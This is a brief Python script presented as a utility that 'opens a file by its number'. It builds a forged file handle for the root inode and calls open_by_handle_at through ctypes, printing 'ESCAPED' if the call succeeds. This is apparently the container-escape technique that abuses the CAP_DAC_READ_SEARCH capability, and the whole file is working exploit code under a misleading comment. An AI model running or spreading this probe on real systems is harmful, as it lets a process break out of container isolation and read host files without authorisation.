# SPDX-License-Identifier: Apache-2.0
# Opens a file by its number.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b'\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0', 64)
fd = os.open('/usr', os.O_RDONLY)
if libc.open_by_handle_at(fd, handle, 0) >= 0:
    print('ESCAPED')
